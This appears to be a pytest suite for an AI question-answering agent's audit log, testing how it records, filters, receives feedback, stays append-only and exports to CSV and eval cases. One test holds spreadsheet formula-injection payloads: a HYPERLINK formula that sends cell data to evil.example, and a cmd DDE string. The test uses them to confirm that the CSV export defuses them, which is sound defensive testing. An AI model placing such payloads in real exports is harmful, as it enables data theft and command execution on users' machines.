"""The audit trail: every question recorded with its outcome, filtered, exported, fed back.

Answers come from a real agent on the demo warehouse; the log is a real SQLite file.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import threading
from collections.abc import Sequence
from dataclasses import fields
from datetime import UTC, date, datetime
from pathlib import Path

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from cortex.access import Principal, load_access
from cortex.agent import Agent
from cortex.errors import UserError
from cortex.evaluation import load_eval
from cortex.planning.offline.planner import OfflinePlanner
from cortex.planning.plans import Plan, QueryPlan, Usage
from cortex.settings import load_settings
from cortex.stores.audit import (
    COLUMNS,
    OUTCOMES,
    AuditEntry,
    AuditLog,
    AuditRecord,
    eval_cases,
    eval_query,
    write_csv,
)
from cortex.stores.conversations import ConversationStore
from cortex.workspace import Workspace
from semantic_layer.query import Filter, OrderBy, SemanticQuery, parse_where
from tests.conftest import DEMO_AS_OF
from tests.cortex.conftest import run

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture()
def agent(workspace: Workspace) -> Agent:
    planner = OfflinePlanner(workspace.model, as_of=DEMO_AS_OF)
    return Agent(workspace, planner, ConversationStore(":memory:"))


@pytest.fixture()
def log(tmp_path: Path) -> AuditLog:
    return AuditLog(tmp_path / "audit" / "audit.sqlite")  # the folder is created


class _Scripted:
    """A planner that returns a fixed plan (as a model-backed planner would, with its usage)."""

    def __init__(self, plan: Plan) -> None:
        self._plan = plan

    def plan(self, question: str, history: Sequence[SemanticQuery] = ()) -> Plan:
        return self._plan


def entry(**values: object) -> AuditEntry:
    defaults: dict[str, object] = {
        "source": "slack",
        "user_id": "U0ADA00001",
        "question": "What is our ARR?",
        "outcome": "answered",
    }
    return AuditEntry(**{**defaults, **values})  # type: ignore[arg-type]


# --------------------------------------------------------------------------- recording answers


def test_an_answer_is_recorded_with_its_plan_sql_rows_and_latency(
    agent: Agent, log: AuditLog
) -> None:
    answer = agent.ask("What's our ARR by segment?")
    record_id = log.record_answer(
        answer, source="slack", user_id="U0ADA00001", user_name="Ada", channel="C0FINANCE1"
    )
    record = log.get(record_id)
    assert record is not None and answer.compiled is not None and answer.result is not None
    assert (record.source, record.user_id, record.user_name, record.channel) == (
        "slack",
        "U0ADA00001",
        "Ada",
        "C0FINANCE1",
    )
    assert record.thread == answer.conversation_id
    assert record.question == "What's our ARR by segment?"
    assert record.outcome == "answered" and record.answer == answer.text
    assert record.query == answer.query
    assert record.sql == answer.compiled.sql
    assert record.rows == len(answer.result.frame) > 0
    assert record.latency_ms == answer.timings_ms["total"] > 0
    assert record.as_of == DEMO_AS_OF
    assert record.input_tokens is None and record.cost_usd is None  # the offline planner is free
    assert abs((datetime.now(UTC) - record.at).total_seconds()) < 60
    assert record.feedback is None


@pytest.mark.parametrize(
    ("question", "outcome"),
    [("What's our NPS?", "clarified"), ("write me a poem about our support team", "declined")],
)
def test_a_clarification_or_a_decline_is_recorded_without_a_plan(
    agent: Agent, log: AuditLog, question: str, outcome: str
) -> None:
    record = log.get(log.record_answer(agent.ask(question), source="cli", user_id="ada"))
    assert record is not None
    assert record.outcome == outcome and record.answer
    assert record.plan is None and record.sql is None and record.rows is None


def test_an_answer_planned_by_a_model_is_recorded_with_its_tokens_and_cost(
    workspace: Workspace, log: AuditLog
) -> None:
    plan = QueryPlan(SemanticQuery(metrics=("arr",)), 1.0, usage=Usage(1200, 80, 0.0016))
    answer = Agent(workspace, _Scripted(plan), ConversationStore(":memory:")).ask("ARR?")
    record = log.get(log.record_answer(answer, source="slack", user_id="U0ADA00001"))
    assert record is not None and record.outcome == "answered"
    assert (record.input_tokens, record.output_tokens, record.cost_usd) == (1200, 80, 0.0016)


def test_an_error_is_recorded_as_failed_with_what_went_wrong(
    workspace: Workspace, log: AuditLog
) -> None:
    plan = QueryPlan(SemanticQuery(metrics=("revenu",)), 1.0)
    answer = Agent(workspace, _Scripted(plan), ConversationStore(":memory:")).ask("revenue?")
    record = log.get(log.record_answer(answer, source="slack", user_id="U0ADA00001"))
    assert record is not None
    assert record.outcome == "failed" and "Unknown metric 'revenu'" in record.answer
    assert record.sql is None and record.rows is None


def test_a_denied_answer_and_a_user_with_no_role_are_recorded_as_denied(
    agent: Agent, workspace: Workspace, log: AuditLog
) -> None:
    policy = load_access(ROOT / "access.yml", workspace.model)
    staff = policy.grant_for(Principal("U09NEWHIRE1", groups=frozenset({"S04H6N9PZ3R"})))
    answer = agent.ask("What is our ARR?", policy=staff)
    denied = log.get(log.record_answer(answer, source="slack", user_id="U09NEWHIRE1"))
    assert denied is not None and denied.outcome == "denied" and denied.sql is None
    nobody = log.record_denial(
        "What is our ARR?",
        source="slack",
        user_id="U09NOBODY01",
        channel="C0GENERAL1",
        reason="You are not allowed to ask Cortex yet.",
    )
    record = log.get(nobody)
    assert record is not None and record.outcome == "denied" and record.plan is None
    assert record.answer == "You are not allowed to ask Cortex yet."


def test_a_long_answer_is_kept_short(log: AuditLog) -> None:
    record = log.get(log.record(entry(answer="x" * 5000)))
    assert record is not None and len(record.answer) == 500 and record.answer.endswith("…")


# --------------------------------------------------------------------------- feedback


def test_feedback_is_set_later_on_the_record(log: AuditLog) -> None:
    record_id = log.record(entry())
    log.record_feedback(record_id, "up", by="U0ADA00001")
    record = log.get(record_id)
    assert record is not None and record.feedback == "up" and record.feedback_comment is None
    log.record_feedback(record_id, "down", comment="That is last year's ARR", by="U0ADA00001")
    log.record_feedback(record_id, "down", by="U0ADA00001")  # a comment given once stays
    record = log.get(record_id)
    assert record is not None
    assert (record.feedback, record.feedback_comment, record.feedback_by) == (
        "down",
        "That is last year's ARR",
        "U0ADA00001",
    )
    assert record.feedback_at is not None and record.feedback_at >= record.at


def test_feedback_on_a_missing_record_or_with_a_bad_vote_is_refused(log: AuditLog) -> None:
    with pytest.raises(UserError, match="no audit record 42"):
        log.record_feedback(42, "up")
    with pytest.raises(UserError, match="Unknown vote 'meh'"):
        log.record_feedback(log.record(entry()), "meh")


def test_the_log_is_append_only(log: AuditLog) -> None:
    record_id = log.record(entry())
    with sqlite3.connect(log.path) as con, pytest.raises(sqlite3.DatabaseError, match="append"):
        con.execute("DELETE FROM records")
    with sqlite3.connect(log.path) as con, pytest.raises(sqlite3.DatabaseError, match="append"):
        con.execute("UPDATE records SET question = 'something else'")
    record = log.get(record_id)
    assert record is not None and record.question == "What is our ARR?"


# --------------------------------------------------------------------------- listing


@pytest.fixture()
def filled(log: AuditLog) -> AuditLog:
    log.record(entry(user_id="U0ADA00001", user_name="Ada", channel="C0FINANCE1"))
    log.record(entry(user_id="U0BEN00001", user_name="Ben", outcome="clarified"))
    down = log.record(entry(user_id="U0ADA00001", user_name="Ada", outcome="failed"))
    log.record_feedback(down, "down", comment="It broke")
    log.record(entry(user_id="U0CY000001", outcome="denied", channel="C0FINANCE1"))
    return log


def test_records_are_listed_newest_first_and_filtered(filled: AuditLog) -> None:
    assert [r.id for r in filled.list()] == [4, 3, 2, 1]
    assert [r.id for r in filled.list(user="U0ADA00001")] == [3, 1]
    assert [r.id for r in filled.list(user="ada")] == [3, 1]  # a name, whatever its case
    assert [r.id for r in filled.list(channel="C0FINANCE1")] == [4, 1]
    assert [r.id for r in filled.list(outcome="clarified")] == [2]
    assert [r.id for r in filled.list(feedback="down")] == [3]
    assert [r.id for r in filled.list(limit=2)] == [4, 3]
    assert [r.id for r in filled.list(user="Ada", channel="C0FINANCE1")] == [1]
    assert len(filled.list(since=datetime.now(UTC).date())) == 4
    assert filled.list(since=date(2999, 1, 1)) == []


def test_an_unknown_outcome_lists_the_choices(filled: AuditLog) -> None:
    with pytest.raises(UserError) as raised:
        filled.list(outcome="answerd")
    assert str(raised.value) == (
        "Unknown outcome 'answerd'. Choose one of: answered, clarified, declined, denied, "
        "failed, acted. Did you mean 'answered'?"
    )


def test_twenty_threads_appending_at_once_all_land(tmp_path: Path) -> None:
    for log in (AuditLog(tmp_path / "audit.sqlite"), AuditLog(":memory:")):
        ids: list[int] = []
        start = threading.Barrier(20)

        def ask(
            n: int, log: AuditLog = log, ids: list[int] = ids, start: threading.Barrier = start
        ) -> None:
            start.wait()
            ids.append(log.record(entry(question=f"question {n}")))

        threads = [threading.Thread(target=ask, args=(n,)) for n in range(20)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert len(set(ids)) == 20
        assert {r.question for r in log.list()} == {f"question {n}" for n in range(20)}


def test_no_secret_is_ever_stored(agent: Agent, tmp_path: Path) -> None:
    names = {f.name for f in fields(AuditRecord)}
    assert not {n for n in names if any(w in n for w in ("key", "secret", "password"))}
    assert {n for n in names if "token" in n} == {"input_tokens", "output_tokens"}  # counts
    settings = load_settings(
        {"SLACK_BOT_TOKEN": "xoxb-never-stored", "ANTHROPIC_API_KEY": "sk-ant-never-stored"},
        cwd=tmp_path,
    )
    log = AuditLog(settings.audit_path)
    log.record_answer(agent.ask("What's our ARR by segment?"), source="cli", user_id="ada")
    stored = Path(log.path).read_bytes()
    assert b"never-stored" not in stored and b"ARR" in stored


# --------------------------------------------------------------------------- exports


def test_csv_export_has_every_column(agent: Agent, log: AuditLog) -> None:
    answer = agent.ask("What's our ARR by segment?")
    log.record_answer(answer, source="slack", user_id="U0ADA00001", channel="C0FINANCE1")
    log.record(entry(question='A "quoted", multi-line\nquestion', outcome="clarified"))
    stream = io.StringIO()
    write_csv(log.list(), stream)
    frame = pd.read_csv(io.StringIO(stream.getvalue()))
    assert tuple(frame.columns) == COLUMNS
    assert COLUMNS[:3] == ("id", "at", "source") and "feedback" in COLUMNS
    assert frame["outcome"].tolist() == ["clarified", "answered"]
    assert frame["question"][0] == 'A "quoted", multi-line\nquestion'
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert SemanticQuery.model_validate(json.loads(rows[1]["plan"])) == answer.query
    assert int(rows[1]["rows"]) == 3 and rows[1]["as_of"] == DEMO_AS_OF.isoformat()


def test_csv_export_defuses_text_a_spreadsheet_would_run_as_a_formula(log: AuditLog) -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"ARR")'
    log.record(entry(question=formula, answer="+cmd|' /C calc'!A0"))
    stream = io.StringIO()
    write_csv(log.list(), stream)
    (row,) = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert row["question"] == "'" + formula and row["answer"].startswith("'+cmd")


def test_thumbs_down_answers_export_as_eval_cases_an_analyst_completes(
    log: AuditLog, tmp_path: Path
) -> None:
    plan = SemanticQuery(
        metrics=("arr",),
        dimensions=("segment", "metric_time:month"),
        filters=(
            Filter(field="region", op="in", values=("EMEA", "O'Brien's")),
            Filter(field="ai_agent_enabled", op="=", values=(True,)),
        ),
        named_filters=("enterprise",),
        time_range="last 6 months",
        order_by=(OrderBy(field="arr", descending=True),),
        limit=5,
    )
    wrong = log.record(
        entry(plan=plan.model_dump_json(), user_name="Ada", as_of=DEMO_AS_OF, channel="C0SALES01")
    )
    log.record_feedback(wrong, "down", comment="Should be\nEMEA only")
    asked_back = log.record(entry(question="How's the business?", outcome="clarified"))
    log.record_feedback(asked_back, "down")
    log.record_feedback(log.record(entry(question="fine")), "up")  # not exported

    text = eval_cases(log.list())
    data = yaml.safe_load(text)
    assert data["as_of"] == DEMO_AS_OF
    assert [c["id"] for c in data["cases"]] == [f"feedback-{asked_back}", f"feedback-{wrong}"]
    case = data["cases"][1]
    assert case["question"] == "What is our ARR?" and case["tags"] == ["feedback"]
    assert case["expect"]["cortex_gave"]["outcome"] == "answered"
    assert "Ada in C0SALES01 asked this" in text and "“Should be EMEA only”" in text
    assert data["cases"][0]["expect"]["cortex_gave"]["outcome"] == "clarified"

    # Until an analyst says what is right, `cortex eval` refuses the file.
    path = tmp_path / "feedback.yml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(UserError) as raised:
        load_eval(path)
    assert "expects nothing I know" in raised.value.user_message
    assert "{query: ...}, {clarify: true} or {out_of_scope: true}" in raised.value.user_message

    # Completed (here: Cortex's own query kept as the answer), it loads as that query.
    data["cases"] = [data["cases"][1]]
    data["cases"][0]["expect"] = {"query": case["expect"]["cortex_gave"]["query"]}
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    _, [loaded] = load_eval(path)
    assert loaded.turns[0].query == plan


def test_every_outcome_given_a_thumbs_down_exports_as_an_eval_case(log: AuditLog) -> None:
    for outcome in OUTCOMES:
        log.record_feedback(log.record(entry(question=f"a {outcome} one", outcome=outcome)), "down")
    cases = yaml.safe_load(eval_cases(log.list()))["cases"]
    assert sorted(c["expect"]["cortex_gave"]["outcome"] for c in cases) == sorted(OUTCOMES)


def test_eval_filters_read_back_as_the_same_filters() -> None:
    filters = (
        Filter(field="region", op="not in", values=("EMEA", "O'Brien's")),
        Filter(field="ai_agent_enabled", op="=", values=(False,)),
        Filter(field="signed_up_at", op="between", values=(date(2026, 1, 1), date(2026, 3, 31))),
        Filter(field="csat_score", op="<", values=(3.5,)),
        Filter(field="churned_at", op="is null"),
    )
    where = eval_query(SemanticQuery(metrics=("arr",), filters=filters))["where"]
    assert isinstance(where, list)
    assert tuple(f for text in where for f in parse_where(text)) == filters


def test_no_thumbs_down_is_an_empty_eval_file(log: AuditLog) -> None:
    assert yaml.safe_load(eval_cases([], as_of=DEMO_AS_OF)) == {"as_of": DEMO_AS_OF, "cases": []}


# --------------------------------------------------------------------------- the command line


def test_cortex_ask_is_audited_and_cortex_audit_lists_it(cortex: CliRunner, tmp_path: Path) -> None:
    code, out, _ = run(cortex, "audit")
    assert code == 0 and "No audit records match" in out
    assert not (tmp_path / "data" / "audit.sqlite").exists()  # listing creates nothing

    assert run(cortex, "ask", "What's our ARR by segment?")[0] == 0
    assert run(cortex, "ask", "What's our NPS?")[0] == 0
    [nps, arr] = AuditLog(tmp_path / "data" / "audit.sqlite").list()
    assert (arr.source, arr.user_id, arr.outcome, arr.rows) == ("cli", "ada", "answered", 3)
    assert nps.outcome == "clarified"
    AuditLog(tmp_path / "data" / "audit.sqlite").record_feedback(arr.id, "down", comment="stale")

    code, out, _ = run(cortex, "audit")
    assert code == 0
    assert "2 question(s), newest first" in out  # 80 columns wide here: cells wrap
    assert "answered" in out and "clarified" in out and "stale" in out and "ARR" in out
    code, out, _ = run(cortex, "audit", "--outcome", "clarified")
    assert "NPS" in out and "ARR" not in out
    code, out, _ = run(cortex, "audit", "--since", "2999-01-01")
    assert "No audit records match" in out


def test_cortex_audit_exports_csv_and_eval_cases(cortex: CliRunner, tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "data" / "audit.sqlite")
    plan = SemanticQuery(metrics=("arr",), dimensions=("segment",))
    log.record(entry(plan=plan.model_dump_json(), as_of=DEMO_AS_OF))
    log.record_feedback(log.record(entry(plan=plan.model_dump_json())), "down")

    code, out, _ = run(cortex, "audit", "--export", "csv")
    assert code == 0
    frame = pd.read_csv(io.StringIO(out))
    assert tuple(frame.columns) == COLUMNS and len(frame) == 2

    code, _, err = run(cortex, "audit", "--export", "evals", "--output", "feedback.yml")
    assert code == 0 and "1 record(s) written to feedback.yml" in err
    data = yaml.safe_load((tmp_path / "feedback.yml").read_text(encoding="utf-8"))
    assert [c["id"] for c in data["cases"]] == ["feedback-2"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["--outcome", "answerd"],
            "--outcome 'answerd' is not one of: answered, clarified, declined, denied, failed, "
            "acted. Did you mean 'answered'?",
        ),
        (["--feedback", "down-vote"], "--feedback 'down-vote' is not one of: up, down."),
        (["--export", "json"], "--export 'json' is not one of: csv, evals."),
        (["--since", "last week"], "--since 'last week' is not a day."),
    ],
)
def test_cortex_audit_refuses_bad_options_clearly(
    cortex: CliRunner, args: list[str], message: str
) -> None:
    code, _, err = run(cortex, "audit", *args)
    assert code == 1
    assert message in " ".join(err.split())


def test_outcomes_are_the_documented_six() -> None:
    assert OUTCOMES == ("answered", "clarified", "declined", "denied", "failed", "acted")
